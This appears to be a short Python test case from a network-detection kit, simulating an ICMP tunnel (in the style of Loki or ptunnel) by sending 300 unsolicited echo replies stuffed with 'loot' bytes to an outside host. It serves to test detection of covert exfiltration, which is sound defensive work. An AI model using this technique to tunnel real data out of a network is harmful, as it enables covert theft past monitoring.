# SPDX-License-Identifier: Apache-2.0
"""Echo replies that nobody asked for carry a tunnel (Loki, ptunnel)."""
from kit import *

ALLOWED = ICMP


def attack(pot, out, family):
    kind = 129 if family == 6 else 0
    pot.send_packets([icmp(pot.ip(family), out.ip(family), kind, struct.pack(">HH", n, 1) + b"loot" * 200)
                      for n in range(300)])
